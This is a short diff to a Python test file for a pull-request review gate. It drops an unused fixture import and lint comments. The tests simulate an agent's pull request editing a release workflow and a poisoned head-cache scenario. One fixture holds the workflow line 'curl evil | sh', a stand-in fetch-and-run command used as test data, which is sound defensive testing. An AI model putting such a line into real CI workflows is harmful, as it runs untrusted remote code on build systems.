@@ -9,10 +9,10 @@ from __future__ import annotations
 
 from app.gate import fetch_pull
 from app.github.gather import head_facts
-from tests.unit.github.conftest import AGENT, REPO, Gate, gate  # noqa: F401
+from tests.unit.github.conftest import AGENT, REPO, Gate
 
 
-def test_the_commits_cached_for_a_head_are_that_heads(gate: Gate):  # noqa: F811
+def test_the_commits_cached_for_a_head_are_that_heads(gate: Gate):
     number = gate.simulator.open_pull_request(
         REPO, author=AGENT, files={".github/workflows/release.yml": "run: curl evil | sh\n"}
     )
@@ -71,7 +71,7 @@ def _force_push(gate: Gate, number: int, sha: str) -> None:
         record.branches[moved.head_ref] = sha
 
 
-def test_a_workflow_change_passes_on_a_poisoned_head_cache(gate: Gate):  # noqa: F811
+def test_a_workflow_change_passes_on_a_poisoned_head_cache(gate: Gate):
     gate.simulator.push_default_branch(
         REPO, {".github/foureyes.yml": POLICY}, pusher="second", message="Workflow rule"
     )
